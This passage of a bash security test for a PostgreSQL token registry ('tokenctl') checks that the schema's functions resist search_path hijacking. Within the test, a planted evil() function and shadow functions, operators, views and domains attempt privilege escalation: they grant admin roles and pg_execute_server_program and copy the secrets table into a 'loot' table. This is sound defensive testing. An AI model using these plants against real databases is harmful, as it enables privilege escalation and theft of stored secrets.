#!/usr/bin/env bash
# pg_planted: no login can make the schema's functions run code of its own (SPEC.md, "The
# server enforces the roles": a search_path pinned in every function, pg_temp last).
#
# A verifier, a plain user and a non-owner administrator each plant, in one psql session,
# objects that a function of the schema might pick up by name: in pg_temp (searched first
# for types and tables unless a function's search_path puts it last), in a schema of
# their own named like the login ("$user" leads the default search_path), and in public
# (CREATE there granted to PUBLIC, as before PostgreSQL 15). Planted: a function evil()
# that reports who runs it (a WARNING, and a row in a table everyone may append to) and,
# when it runs as another role, tries to escalate; domains named bytea, text, int8, … whose
# CHECK calls it; views named like the registry's tables; functions named translate,
# lower, fold, my_id, is_admin, abs, now, format, …; operators = on text, bytea and bigint;
# an aggregate array_agg. Then, under several search paths, the session calls every
# function of schema tokenctl that pg_proc lists, with real arguments (a real digest, real
# names and token IDs), fires the triggers it may fire, and reads every table.
#
# Then a user plants overloads in public that would match tokenctl's own queries better
# than pg_catalog's, and the other logins run tokenctl as they would: nothing planted may
# run in their sessions.
#
# Required: evil() never ran as a role other than the attacker; a superuser's snapshot
# of the registry (rows but tokens.last_used_at, grants, memberships, role attributes,
# functions) is unchanged; each table reads as it did before anything was planted; and,
# statically, every function of the schema has a search_path ending with pg_temp.
SUITE_TAG=pgp
LOGIN_NAMES="own adm alice bob gw"
. "$(dirname "$0")/lib-registry.sh"

URI=https://app.example.com/cb

# --- Setup ------------------------------------------------------------------------------
case_ "setup"
new_registry
REG=$(registry_id_now)
setup() { "$@" >/dev/null 2>"$TMP/setup.err" || { cat "$TMP/setup.err"; echo "setup failed: $*"; exit 1; }; }
setup tc "$L_own" user add "$L_adm" --role admin
setup tc "$L_own" user add "$L_alice"
setup tc "$L_own" user add "$L_bob"
setup tc "$L_own" user add "$L_gw" --role verifier
TID_ALICE=$(tc "$L_alice" add-app -q --redirect-uri "$URI") || { echo "add-app failed"; exit 1; }
TID_BOB=$(tc "$L_bob" add-app -q --redirect-uri "$URI") || { echo "add-app failed"; exit 1; }
TID_ADM=$(tc "$L_adm" add-app -q --redirect-uri "$URI" --for "$L_bob" --name "shared_$P") || { echo "add-app failed"; exit 1; }
TID_ADM_OWN=$(tc "$L_adm" add-app -q --redirect-uri "$URI") || { echo "add-app failed"; exit 1; }
setup token_file "$L_alice" "$TID_ALICE" "$TMP/alice.json"
setup token_file "$L_bob" "$TID_BOB" "$TMP/bob.json"

digest_of() { sql "SELECT encode(access_digest, 'hex') FROM tokenctl.tokens WHERE token_id = '$1'"; }
uid_of() { sql "SELECT id FROM tokenctl.users WHERE name = '$1'"; }
D_ALICE=$(digest_of "$TID_ALICE")
D_BOB=$(digest_of "$TID_BOB")
D_ADM=$(digest_of "$TID_ADM_OWN")
U_BOB=$(uid_of "$L_bob")
APP_BOB=$(sql "SELECT a.name FROM tokenctl.apps a JOIN tokenctl.tokens t ON t.app_id = a.id WHERE t.token_id = '$TID_BOB'")
KEY_CHECK=$(sql "SELECT encode(value, 'hex') FROM tokenctl.meta WHERE name = 'key_check'")
# serve's client refresh with alice's real credentials (its calls are rolled back).
CLIENT_ALICE=$(sql "SELECT a.client_id FROM tokenctl.apps a JOIN tokenctl.tokens t ON t.app_id = a.id WHERE t.token_id = '$TID_ALICE'")
SECRET_ALICE=$(tc "$L_alice" app secret "$L_alice")
REFRESH_ALICE=$(python3 -c 'import json, sys; print(json.load(open(sys.argv[1]))["refresh_token"])' "$TMP/alice.json")
for v in REG D_ALICE D_BOB D_ADM U_BOB APP_BOB CLIENT_ALICE SECRET_ALICE REFRESH_ALICE; do
  [ -n "${!v}" ] || { echo "setup: $v is empty"; exit 1; }
done

# What evil() reports into, from any role, kept past the transactions it runs in (the
# WARNINGs psql prints are kept too, even when the statement fails).
sql "CREATE SCHEMA watch; GRANT USAGE ON SCHEMA watch TO PUBLIC;
     CREATE TABLE watch.log (at timestamptz DEFAULT clock_timestamp(), cur text, sess text, what text);
     GRANT INSERT ON watch.log TO PUBLIC;
     CREATE TABLE watch.loot (what text); GRANT INSERT ON watch.loot TO PUBLIC;
     GRANT CREATE ON SCHEMA public TO PUBLIC" >/dev/null || { echo "setup: watch schema"; exit 1; }
for l in "$L_adm" "$L_alice" "$L_gw"; do
  sql "CREATE SCHEMA \"$l\" AUTHORIZATION \"$l\"" >/dev/null || { echo "setup: schema $l"; exit 1; }
done

# --- The static check -------------------------------------------------------------------
case_ "every function of schema tokenctl pins a search_path that ends with pg_temp"
unpinned=$(sql "SELECT p.oid::regprocedure::text || ' ' || coalesce(array_to_string(p.proconfig, ';'), '(no settings)')
  FROM pg_proc p JOIN pg_namespace n ON n.oid = p.pronamespace
  WHERE n.nspname = 'tokenctl' AND NOT EXISTS (
    SELECT 1 FROM unnest(coalesce(p.proconfig, '{}')) c
    WHERE c ~ '^search_path=' AND c ~ '(^search_path=|,\s*)\"?pg_temp\"?\s*$')
  ORDER BY 1")
nfun=$(sql "SELECT count(*) FROM pg_proc p JOIN pg_namespace n ON n.oid = p.pronamespace WHERE n.nspname = 'tokenctl'")
if [ "$nfun" -gt 0 ] && [ -z "$unpinned" ]; then pass; else
  OUT=$unpinned ERR=
  fail "$(printf '%s\n' "$unpinned" | grep -c .) of $nfun functions without a search_path ending with pg_temp: $(printf '%s\n' "$unpinned" | tr '\n' '|' | head -c 1500)"
fi
case_ "every SECURITY DEFINER function of schema tokenctl has pg_catalog first in its search_path"
bad=$(sql "SELECT p.oid::regprocedure::text FROM pg_proc p JOIN pg_namespace n ON n.oid = p.pronamespace
  WHERE n.nspname = 'tokenctl' AND p.prosecdef AND NOT EXISTS (
    SELECT 1 FROM unnest(coalesce(p.proconfig, '{}')) c WHERE c ~ '^search_path=\"?pg_catalog\"?,')")
if [ -z "$bad" ]; then pass; else OUT=$bad ERR='' fail "search_path without pg_catalog first: $(echo $bad)"; fi

# --- The superuser's snapshot -------------------------------------------------------------
SNAP_SQL=$(
  cat <<SQL
SELECT line FROM (
  SELECT 'registry ' || r::text FROM tokenctl.registry r UNION ALL
  SELECT 'meta ' || r::text FROM tokenctl.meta r UNION ALL
  SELECT 'users ' || r::text FROM tokenctl.users r UNION ALL
  SELECT 'apps ' || r::text FROM tokenctl.apps r UNION ALL
  SELECT 'tokens ' || (to_jsonb(r) - 'last_used_at')::text FROM tokenctl.tokens r UNION ALL
  SELECT 'secrets ' || r::text FROM tokenctl.secrets r UNION ALL
  SELECT 'audit ' || r::text FROM tokenctl.audit r UNION ALL
  SELECT 'loot ' || r::text FROM watch.loot r UNION ALL
  SELECT 'member ' || g.rolname || ' ' || m.rolname || ' ' || a.admin_option::text
    FROM pg_auth_members a JOIN pg_roles g ON g.oid = a.roleid JOIN pg_roles m ON m.oid = a.member
    WHERE starts_with(g.rolname, 'tokenctl_$REG') OR starts_with(m.rolname, '$P')
       OR g.rolname LIKE 'pg\_%' AND starts_with(m.rolname, '$P') UNION ALL
  SELECT 'role ' || rolname || ' ' || rolsuper || rolcreaterole || rolcreatedb || rolbypassrls
         || rolinherit || rolcanlogin || rolreplication
    FROM pg_roles WHERE starts_with(rolname, 'tokenctl_$REG') OR starts_with(rolname, '$P') UNION ALL
  SELECT 'function ' || p.oid::regprocedure::text || ' ' || p.proowner::regrole::text || ' '
         || p.prosecdef || ' ' || coalesce(p.proacl::text, '') || ' '
         || coalesce(array_to_string(p.proconfig, ';'), '') || ' ' || md5(p.prosrc)
    FROM pg_proc p JOIN pg_namespace n ON n.oid = p.pronamespace WHERE n.nspname = 'tokenctl' UNION ALL
  SELECT 'class ' || c.relname || ' ' || c.relowner::regrole::text || ' ' || coalesce(c.relacl::text, '')
         || ' ' || c.relrowsecurity || c.relforcerowsecurity
    FROM pg_class c JOIN pg_namespace n ON n.oid = c.relnamespace WHERE n.nspname = 'tokenctl' UNION ALL
  SELECT 'trigger ' || t.tgname || ' ' || t.tgenabled::text FROM pg_trigger t
    JOIN pg_class c ON c.oid = t.tgrelid JOIN pg_namespace n ON n.oid = c.relnamespace
    WHERE n.nspname = 'tokenctl' AND NOT t.tgisinternal UNION ALL
  SELECT 'policy ' || tablename || ' ' || policyname || ' ' || coalesce(qual, '') || ' ' || coalesce(with_check, '')
    FROM pg_policies WHERE schemaname = 'tokenctl' UNION ALL
  SELECT 'schema ' || nspname || ' ' || nspowner::regrole::text || ' ' || coalesce(nspacl::text, '')
    FROM pg_namespace WHERE nspname = 'tokenctl' UNION ALL
  SELECT 'database ' || coalesce(datacl::text, '') FROM pg_database WHERE datname = current_database()
) s(line) ORDER BY line COLLATE "C"
SQL
)
snap() { pq -c "$SNAP_SQL" || { echo "the superuser's snapshot failed"; exit 1; }; }

# --- What each attacker plants ------------------------------------------------------------
# evil() in schema $1 (pg_temp, a schema of its own, public): a WARNING and a row for
# every call; as another role than the login, it tries to take the registry.
evil_sql() {
  local s=$1
  cat <<SQL
CREATE FUNCTION $s.evil() RETURNS boolean LANGUAGE plpgsql AS \$evil\$
BEGIN
  -- (every name qualified, and a guard: the planted operators call evil() too)
  IF pg_catalog.current_setting('evil.busy', true) OPERATOR(pg_catalog.=) 'on'::pg_catalog.text THEN
    RETURN true;
  END IF;
  PERFORM pg_catalog.set_config('evil.busy', 'on', false);
  RAISE WARNING 'EVIL[%] cur=% sess=%', '$s', current_user, session_user;
  BEGIN
    INSERT INTO watch.log (cur, sess, what) VALUES (current_user, session_user, '$s');
  EXCEPTION WHEN others THEN NULL;
  END;
  IF current_user OPERATOR(pg_catalog.<>) session_user THEN
    BEGIN
      INSERT INTO tokenctl.users (name, role, created_at)
        VALUES (pg_catalog.concat('pwn_', session_user), 'admin', 0);
    EXCEPTION WHEN others THEN RAISE WARNING 'EVIL insert: %', SQLERRM;
    END;
    BEGIN
      UPDATE tokenctl.users SET role = 'admin'
        WHERE name OPERATOR(pg_catalog.=) session_user::pg_catalog.text;
    EXCEPTION WHEN others THEN RAISE WARNING 'EVIL update: %', SQLERRM;
    END;
    BEGIN
      EXECUTE pg_catalog.format('GRANT %I TO %I', 'tokenctl_${REG}_admin', session_user);
    EXCEPTION WHEN others THEN RAISE WARNING 'EVIL grant: %', SQLERRM;
    END;
    BEGIN
      EXECUTE pg_catalog.format('GRANT pg_execute_server_program TO %I', session_user);
    EXCEPTION WHEN others THEN RAISE WARNING 'EVIL grant program: %', SQLERRM;
    END;
    BEGIN
      INSERT INTO watch.loot SELECT pg_catalog.textin(pg_catalog.record_out(s)) FROM tokenctl.secrets s;
    EXCEPTION WHEN others THEN RAISE WARNING 'EVIL loot: %', SQLERRM;
    END;
  END IF;
  PERFORM pg_catalog.set_config('evil.busy', 'off', false);
  RETURN true;
END
\$evil\$;
GRANT EXECUTE ON FUNCTION $s.evil() TO PUBLIC;
SQL
}

# Functions named like what the schema's bodies and policies call, in schema $1, each
# reporting through $1.evil() and then doing what the real one does (translate and lower
# return '' instead, which would open every row to a policy that compared through them).
shadow_functions_sql() {
  local s=$1 f
  # name(args) returns: body
  while IFS='|' read -r f; do
    [ -n "$f" ] || continue
    printf 'CREATE FUNCTION %s AS $f$ SELECT CASE WHEN %s.evil() THEN %s END $f$;\n' \
      "$(printf '%s' "$f" | cut -d'@' -f1 | sed "s/^/$s./")" "$s" "$(printf '%s' "$f" | cut -d'@' -f2)"
  done <<'LIST'
translate(text, text, text) RETURNS text LANGUAGE sql@''::pg_catalog.text
translate(character varying, text, text) RETURNS text LANGUAGE sql@''::pg_catalog.text
lower(text) RETURNS text LANGUAGE sql@''::pg_catalog.text
upper(text) RETURNS text LANGUAGE sql@''::pg_catalog.text
fold(text) RETURNS text LANGUAGE sql@''::pg_catalog.text
my_id() RETURNS bigint LANGUAGE sql@1::pg_catalog.int8
is_admin() RETURNS boolean LANGUAGE sql@true
my_app_ids() RETURNS bigint[] LANGUAGE sql@'{}'::pg_catalog.int8[]
role_of(bigint) RETURNS text LANGUAGE sql@'admin'::pg_catalog.text
"coalesce"(bigint, bigint) RETURNS bigint LANGUAGE sql@$1
"coalesce"(text, text) RETURNS text LANGUAGE sql@$1
abs(bigint) RETURNS bigint LANGUAGE sql@0::pg_catalog.int8
abs(numeric) RETURNS numeric LANGUAGE sql@0::pg_catalog.numeric
now() RETURNS timestamptz LANGUAGE sql@pg_catalog.now()
clock_timestamp() RETURNS timestamptz LANGUAGE sql@pg_catalog.clock_timestamp()
format(text, text) RETURNS text LANGUAGE sql@pg_catalog.format($1, $2)
format(text, text, text) RETURNS text LANGUAGE sql@pg_catalog.format($1, $2, $3)
format(text, text, text, text) RETURNS text LANGUAGE sql@pg_catalog.format($1, $2, $3, $4)
"session_user"() RETURNS text LANGUAGE sql@'x'::pg_catalog.text
"current_user"() RETURNS text LANGUAGE sql@'x'::pg_catalog.text
current_setting(text) RETURNS text LANGUAGE sql@pg_catalog.current_setting($1)
starts_with(text, text) RETURNS boolean LANGUAGE sql@true
encode(bytea, text) RETURNS text LANGUAGE sql@pg_catalog.encode($1, $2)
sha256(bytea) RETURNS bytea LANGUAGE sql@pg_catalog.sha256($1)
convert_to(text, name) RETURNS bytea LANGUAGE sql@pg_catalog.convert_to($1, $2)
set_config(text, text, boolean) RETURNS text LANGUAGE sql@pg_catalog.set_config($1, $2, $3)
"least"(bigint, bigint) RETURNS bigint LANGUAGE sql@$1
to_hex(bigint) RETURNS text LANGUAGE sql@pg_catalog.to_hex($1)
length(text) RETURNS integer LANGUAGE sql@pg_catalog.length($1)
length(bytea) RETURNS integer LANGUAGE sql@pg_catalog.length($1)
array_position(bigint[], bigint) RETURNS integer LANGUAGE sql@pg_catalog.array_position($1, $2)
pg_advisory_xact_lock(bigint) RETURNS void LANGUAGE sql@NULL::void
pg_advisory_lock(bigint) RETURNS void LANGUAGE sql@NULL::void
quote_ident(text) RETURNS text LANGUAGE sql@pg_catalog.quote_ident($1)
LIST
  # Operators = on text, bytea and bigint, and an aggregate array_agg, through evil().
  cat <<SQL
CREATE FUNCTION $s.eq_text(text, text) RETURNS boolean LANGUAGE sql AS
  \$f\$ SELECT $s.evil() AND \$1 OPERATOR(pg_catalog.=) \$2 \$f\$;
CREATE FUNCTION $s.eq_bytea(bytea, bytea) RETURNS boolean LANGUAGE sql AS
  \$f\$ SELECT $s.evil() AND \$1 OPERATOR(pg_catalog.=) \$2 \$f\$;
CREATE FUNCTION $s.eq_int8(bigint, bigint) RETURNS boolean LANGUAGE sql AS
  \$f\$ SELECT $s.evil() AND \$1 OPERATOR(pg_catalog.=) \$2 \$f\$;
CREATE FUNCTION $s.eq_int8_int4(bigint, integer) RETURNS boolean LANGUAGE sql AS
  \$f\$ SELECT $s.evil() AND \$1 OPERATOR(pg_catalog.=) \$2 \$f\$;
CREATE OPERATOR $s.= (LEFTARG = text, RIGHTARG = text, FUNCTION = $s.eq_text);
CREATE OPERATOR $s.= (LEFTARG = bytea, RIGHTARG = bytea, FUNCTION = $s.eq_bytea);
CREATE OPERATOR $s.= (LEFTARG = bigint, RIGHTARG = bigint, FUNCTION = $s.eq_int8);
CREATE OPERATOR $s.= (LEFTARG = bigint, RIGHTARG = integer, FUNCTION = $s.eq_int8_int4);
CREATE OPERATOR $s.<> (LEFTARG = text, RIGHTARG = text, FUNCTION = $s.eq_text);
CREATE OPERATOR $s.|| (LEFTARG = text, RIGHTARG = text, FUNCTION = $s.eq_text);
CREATE FUNCTION $s.agg_step(bigint[], bigint) RETURNS bigint[] LANGUAGE sql AS
  \$f\$ SELECT CASE WHEN $s.evil() THEN \$1 OPERATOR(pg_catalog.||) \$2 END \$f\$;
CREATE AGGREGATE $s.array_agg(bigint) (SFUNC = $s.agg_step, STYPE = bigint[], INITCOND = '{}');
SQL
}

# Views named like the registry's tables, with their columns, that call evil().
shadow_views_sql() {
  local s=$1 temp=$2 t cols
  for t in registry meta users apps tokens secrets audit; do
    cols=$(sql "SELECT string_agg(format('NULL::%s AS %I', format_type(a.atttypid, a.atttypmod), a.attname), ', ' ORDER BY a.attnum)
      FROM pg_attribute a WHERE a.attrelid = 'tokenctl.$t'::regclass AND a.attnum > 0 AND NOT a.attisdropped")
    printf 'CREATE %s VIEW %s.%s AS SELECT %s WHERE %s.evil();\n' "$temp" "$s" "$t" "$cols" "$s"
  done
}

# Domains named like the types the schema's bodies name.
shadow_domains_sql() {
  local s=$1 t
  for t in bytea text int8 int4 bool numeric timestamptz name varchar bigint boolean integer regclass regrole; do
    printf 'CREATE DOMAIN %s.%s AS pg_catalog.%s CHECK (%s.evil());\n' "$s" "\"$t\"" \
      "$(case $t in bigint) echo int8 ;; boolean) echo bool ;; integer) echo int4 ;; *) echo "$t" ;; esac)" "$s"
  done
}

# --- The calls: every function of the schema, with real arguments --------------------------
# $1: attacker login; $2 the digest it holds or verifies; $3 its own role; $4 a token ID;
# $5: `all` (every function and procedure), or `known` (only the functions that read, or
# write what a legitimate call may: their work is committed, a function added later might
# write anything, so `all` runs in a transaction that is rolled back).
KNOWN_FUNCTIONS=" fold my_id is_admin my_app_ids my_app_creators apps_named_as_me role_of require_meta
  token_exists user_exists app_exists token_by_access_digest stamp_token_use token_counts grant_registry_role "
calls_sql() {
  local login=$1 digest=$2 role=$3 tid=$4 which=$5 name ident rettype argnames argtypes retset kind args i an at v
  while IFS='|' read -r name ident rettype argnames argtypes retset kind; do
    [ "$rettype" = trigger ] && continue
    [ "$which" = all ] || [[ $KNOWN_FUNCTIONS == *" $name "* ]] || continue
    IFS=',' read -r -a ANAMES <<<"$argnames"
    IFS=',' read -r -a ATYPES <<<"$argtypes"
    args=()
    for ((i = 0; i < ${#ATYPES[@]}; i++)); do
      an=${ANAMES[i]-}
      at=${ATYPES[i]}
      case "$name/$an/$at" in
      require_meta/name/*) v="'key_check'::pg_catalog.text" ;;
      require_meta/value/*) v="'\\x$KEY_CHECK'::pg_catalog.bytea" ;;
      */*/bytea) v="'\\x$digest'::pg_catalog.bytea" ;;
      */token_id/text) v="'$tid'::pg_catalog.text" ;;
      user_exists/name/text) v="'$L_bob'::pg_catalog.text" ;;
      app_exists/name/text) v="'$APP_BOB'::pg_catalog.text" ;;
      */role/text) v="'$role'::pg_catalog.text" ;;
      token_counts/within_ms/bigint) v="604800000::pg_catalog.int8" ;;
      */*/text) v="'$login'::pg_catalog.text" ;;
      */now/bigint | */at_ms/bigint | */new_issued_at/bigint) v="(pg_catalog.date_part('epoch', pg_catalog.clock_timestamp()) OPERATOR(pg_catalog.*) 1000)::pg_catalog.int8" ;;
      */*/bigint) v="$U_BOB::pg_catalog.int8" ;;
      */*/integer) v="1::pg_catalog.int4" ;;
      */*/boolean) v="true" ;;
      */*/bigint\[\]) v="'{1}'::pg_catalog.int8[]" ;;
      *) v="NULL::pg_catalog.$at" ;;
      esac
      args+=("$v")
    done
    local joined
    joined=$(IFS=,; printf '%s' "${args[*]}")
    if [ "$kind" = p ]; then
      printf 'CALL tokenctl.%s(%s);\n' "$name" "$joined"
    elif [ "$retset" = t ]; then
      printf 'SELECT count(*) FROM tokenctl.%s(%s);\n' "$name" "$joined"
    else
      printf 'SELECT tokenctl.%s(%s) IS NULL;\n' "$name" "$joined"
    fi
  done < <(sql "SELECT p.proname, p.oid::regprocedure::text, p.prorettype::regtype::text,
      coalesce(array_to_string(p.proargnames[1:p.pronargs], ','), ''),
      coalesce((SELECT string_agg(format_type(t, NULL), ',' ORDER BY o) FROM unnest(p.proargtypes::oid[]) WITH ORDINALITY u(t, o)), ''),
      p.proretset, p.prokind FROM pg_proc p JOIN pg_namespace n ON n.oid = p.pronamespace
      WHERE n.nspname = 'tokenctl' AND p.prokind IN ('f', 'p') ORDER BY p.proname")
}

# serve's client refresh as the verifier, with alice's real credentials, rolled back: the
# claim (rotate), the rotation, the same refresh token again after a grace of 0 (reused: the
# revocation and the audit record, written as the owner). Each answer is printed as
# CLIENT<what>, so the attack can tell that the whole path ran under the plants.
client_refresh_sql() {
  local now="(pg_catalog.date_part('epoch', pg_catalog.clock_timestamp()) OPERATOR(pg_catalog.*) 1000)::pg_catalog.int8"
  local creds="'$CLIENT_ALICE'::pg_catalog.text, '$SECRET_ALICE'::pg_catalog.text, '$REFRESH_ALICE'::pg_catalog.text"
  cat <<SQL
BEGIN;
SELECT 'CLIENT' OPERATOR(pg_catalog.||) outcome FROM tokenctl.claim_client_refresh($creds, $now, 10000::pg_catalog.int8);
SELECT 'CLIENTrotated' FROM (SELECT $now AS n) c,
  tokenctl.token_by_access_digest('\\x$D_ALICE'::pg_catalog.bytea) t
WHERE tokenctl.rotate_for_client($creds, c.n, c.n OPERATOR(pg_catalog.+) t.access_ttl,
  c.n OPERATOR(pg_catalog.+) t.refresh_ttl, pg_catalog.sha256('a'::pg_catalog.bytea),
  pg_catalog.sha256('r'::pg_catalog.bytea), '\\x00'::pg_catalog.bytea, '\\x00'::pg_catalog.bytea);
SELECT pg_catalog.pg_sleep(0.01);
SELECT 'CLIENT' OPERATOR(pg_catalog.||) outcome FROM tokenctl.claim_client_refresh($creds, $now, 0::pg_catalog.int8);
ROLLBACK;
SQL
}

# serve's GET /metrics: the registry's tokens counted by status (a verifier's or an
# administrator's; a user is refused), each answer printed as COUNTS(active,expired,revoked,
# expiring).
counts_sql() {
  local now="(pg_catalog.date_part('epoch', pg_catalog.clock_timestamp()) OPERATOR(pg_catalog.*) 1000)::pg_catalog.int8"
  echo "SELECT 'COUNTS' OPERATOR(pg_catalog.||) pg_catalog.textin(pg_catalog.record_out(c)) FROM tokenctl.token_counts($now, 604800000::pg_catalog.int8) c;"
}

# The same counts, by the superuser, row by row.
expected_counts() {
  local now
  now=$(sql "SELECT (extract(epoch FROM clock_timestamp()) * 1000)::bigint")
  sql "SELECT format('COUNTS(%s,%s,%s,%s)',
    count(*) FILTER (WHERE revoked_at IS NULL AND refresh_expires_at > $now),
    count(*) FILTER (WHERE revoked_at IS NULL AND refresh_expires_at <= $now),
    count(*) FILTER (WHERE revoked_at IS NOT NULL),
    count(*) FILTER (WHERE revoked_at IS NULL AND refresh_expires_at > $now
                     AND refresh_expires_at <= $now + 604800000)) FROM tokenctl.tokens"
}

# What fires the schema's triggers, for what each kind of login may write (rolled back:
# a trigger's own work is not the point; whether planted code ran as another role is).
triggers_sql() {
  local login=$1 tid=$2 uid
  uid=$(uid_of "$login")
  cat <<SQL
BEGIN;
UPDATE tokenctl.tokens SET revoked_at = 1, revoked_by = $uid WHERE token_id = '$tid';
ROLLBACK;
BEGIN;
UPDATE tokenctl.tokens SET access_expires_at = access_expires_at WHERE token_id = '$tid';
ROLLBACK;
BEGIN;
UPDATE tokenctl.users SET role = 'user' WHERE name = '$L_own';
ROLLBACK;
BEGIN;
UPDATE tokenctl.users SET removed_at = NULL WHERE name = '$L_bob';
ROLLBACK;
BEGIN;
INSERT INTO tokenctl.audit (at, actor, action, outcome) VALUES
  ((pg_catalog.date_part('epoch', pg_catalog.clock_timestamp()) OPERATOR(pg_catalog.*) 1000)::pg_catalog.int8, '$login', 'probe', 'ok');
ROLLBACK;
UPDATE tokenctl.audit SET detail = 'x';
DELETE FROM tokenctl.audit;
TRUNCATE tokenctl.audit;
SQL
}

# Every table, read row by row, tagged: what RLS lets the login see.
reads_sql() {
  local tag=$1 t
  # (a token's last use is left out: stamp_token_use legitimately records one)
  for t in registry meta users apps tokens secrets audit; do
    if [ "$t" = tokens ]; then
      printf "SELECT 'READ' OPERATOR(pg_catalog.||) '%s %s ' OPERATOR(pg_catalog.||) pg_catalog.jsonb_out(pg_catalog.to_jsonb(r) OPERATOR(pg_catalog.-) 'last_used_at'::pg_catalog.text)::pg_catalog.text FROM tokenctl.%s r;\n" "$tag" "$t" "$t"
    else
      printf "SELECT 'READ' OPERATOR(pg_catalog.||) '%s %s ' OPERATOR(pg_catalog.||) pg_catalog.textin(pg_catalog.record_out(r)) FROM tokenctl.%s r;\n" "$tag" "$t" "$t"
    fi
  done
}

attack() { # LOGIN KIND DIGEST ROLE TOKEN_ID
  local login=$1 kind=$2 digest=$3 role=$4 tid=$5 before after evil_foreign sp tag
  case_ "$kind: planted objects never run as another role; nothing changes"
  sql "DROP SCHEMA public CASCADE; CREATE SCHEMA public; GRANT ALL ON SCHEMA public TO PUBLIC;
       DELETE FROM watch.log" >/dev/null
  # What the login reads before anything is planted.
  reads_sql base | psql_login "$login" -f - 2>/dev/null | grep '^READ' | sed 's/^READbase /READ /' | LC_ALL=C sort >"$TMP/reads.base"
  before=$(snap)
  {
    echo "SET client_min_messages = warning;"
    # (each statement on its own: a refused one does not end the transaction around it)
    echo "\\set ON_ERROR_ROLLBACK on"
    echo "SELECT 'PLANT';"
    evil_sql pg_temp
    evil_sql "\"$login\""
    evil_sql public
    # (functions and views first: they name pg_catalog's types, which the domains shadow)
    shadow_functions_sql pg_temp
    shadow_functions_sql "\"$login\""
    shadow_functions_sql public
    shadow_views_sql pg_temp TEMP
    shadow_views_sql "\"$login\"" ""
    shadow_views_sql public ""
    shadow_domains_sql pg_temp
    shadow_domains_sql "\"$login\""
    shadow_domains_sql public
    # The plants work: evil() runs (as the login itself) through a pg_temp domain.
    echo "SELECT 'SANITY';"
    echo "SELECT 'x'::bytea IS NULL;"
    echo "SELECT \"$login\".evil(), public.evil();"
    i=0
    for sp in "DEFAULT" "\"\$user\", public, pg_catalog, tokenctl" "pg_temp, \"\$user\", public, pg_catalog, tokenctl" \
      "tokenctl, \"\$user\", public"; do
      i=$((i + 1))
      echo "SET search_path = $sp;"
      echo "BEGIN;"
      calls_sql "$login" "$digest" "$role" "$tid" all
      echo "ROLLBACK;"
      calls_sql "$login" "$digest" "$role" "$tid" known
      [ "$role" != verifier ] || client_refresh_sql
      counts_sql
      triggers_sql "$login" "$tid"
      reads_sql "p$i"
    done
  } >"$TMP/attack.sql"
  PGOPTIONS="-c statement_timeout=20s -c lock_timeout=5s" psql_login "$login" -f "$TMP/attack.sql" >"$TMP/attack.out" 2>"$TMP/attack.err"
  after=$(snap)

  # psql ran, as the login, and the plants were live.
  OUT=$(head -c 1500 "$TMP/attack.out") ERR=$(grep -v 'EVIL\[' "$TMP/attack.err" | head -c 1500)
  if grep -qx PLANT "$TMP/attack.out" && grep -qx SANITY "$TMP/attack.out"; then pass; else fail "the attack session did not run"; fi
  # (unless the server refused the login temporary objects: then nothing is in pg_temp)
  if grep -q "EVIL\[pg_temp\] cur=$login sess=$login" "$TMP/attack.err" ||
    grep -q 'permission denied to create temporary tables' "$TMP/attack.err"; then pass; else
    fail "the planted pg_temp.bytea domain did not call evil() even as $login: the test plants nothing"
  fi
  if grep -q "EVIL\[\"$login\"\] cur=$login sess=$login" "$TMP/attack.err" &&
    grep -q "EVIL\[public\] cur=$login sess=$login" "$TMP/attack.err"; then pass; else
    fail "evil() in $login's own schema or in public did not run even as $login: the test plants nothing there"
  fi
  if [ "$role" = verifier ]; then
    # serve's client refresh ran whole under the plants, at each search path.
    if [ "$(grep -c '^CLIENTrotate$' "$TMP/attack.out")" = "$i" ] &&
      [ "$(grep -c '^CLIENTrotated$' "$TMP/attack.out")" = "$i" ] &&
      [ "$(grep -c '^CLIENTreused$' "$TMP/attack.out")" = "$i" ]; then pass; else
      fail "the client refresh did not run whole under the plants: $(grep '^CLIENT' "$TMP/attack.out" | sort | uniq -c | tr '\n' ' '); $(grep -m 3 ERROR "$TMP/attack.err" | tr '\n' '|')"
    fi
  fi
  # The registry's tokens counted under the plants, at each search path, as the superuser
  # counts them; a user is refused.
  local counted expected
  counted=$(grep '^COUNTS' "$TMP/attack.out" | sort | uniq -c | tr -s ' ' | sed 's/^ //')
  expected=$(expected_counts)
  if [ "$role" = user ]; then
    if [ -z "$counted" ] && [ "$(grep -c 'permission denied for function token_counts' "$TMP/attack.err")" -ge "$i" ]; then pass; else
      fail "a user counted the registry's tokens: $counted"
    fi
  elif [ "$counted" = "$i $expected" ]; then pass; else
    fail "the tokens were not counted whole under the plants: $counted (expected $i $expected); $(grep -m 3 ERROR "$TMP/attack.err" | tr '\n' '|')"
  fi
  local nplanted
  nplanted=$(grep -c 'ERROR' "$TMP/attack.err")
  printf '  %s: %s statements refused, %s calls of evil() as the login\n' "$kind" "$nplanted" \
    "$(grep -c "EVIL\[.*\] cur=$login sess=$login" "$TMP/attack.err")"

  evil_foreign=$(grep -o 'EVIL\[[^]]*\] cur=[^ ]* sess=[^ ]*' "$TMP/attack.err" | grep -v "cur=$login sess=$login\$" | sort | uniq -c)
  if [ -z "$evil_foreign" ]; then pass; else
    fail "planted code ran as another role: $(echo $evil_foreign | head -c 600); $(grep -m 3 'EVIL [a-z ]*:' "$TMP/attack.err" | tr '\n' '|')"
  fi
  local logged
  logged=$(sql "SELECT cur || ' as ' || sess || ' via ' || what FROM watch.log WHERE cur <> sess GROUP BY 1")
  if [ -z "$logged" ]; then pass; else fail "watch.log has calls of evil() as another role: $(echo $logged)"; fi
  if [ "$before" = "$after" ]; then pass; else
    fail "the registry changed: $(diff <(printf '%s\n' "$before") <(printf '%s\n' "$after") | grep '^[<>]' | head -n 8 | sed -E 's/([0-9a-f]{12})[0-9a-f]{20,}/\1…/g' | tr '\n' '|')"
  fi
  # Each table reads as before, whatever the search path and the planted names.
  for ((j = 1; j <= i; j++)); do
    grep "^READp$j " "$TMP/attack.out" | sed "s/^READp$j /READ /" | LC_ALL=C sort >"$TMP/reads.p$j"
    if cmp -s "$TMP/reads.base" "$TMP/reads.p$j"; then pass; else
      fail "with search path #$j and the plants, $login reads other rows: $(diff "$TMP/reads.base" "$TMP/reads.p$j" | grep '^[<>]' | head -n 4 | cut -c1-160 | tr '\n' '|')"
    fi
  done
}

attack "$L_gw" "verifier" "$D_BOB" verifier "$TID_BOB"
attack "$L_alice" "plain user" "$D_ALICE" user "$TID_ALICE"
attack "$L_adm" "administrator (not the owner)" "$D_ADM" admin "$TID_ADM_OWN"

# --- tokenctl's own sessions, with the default search path ------------------------------------
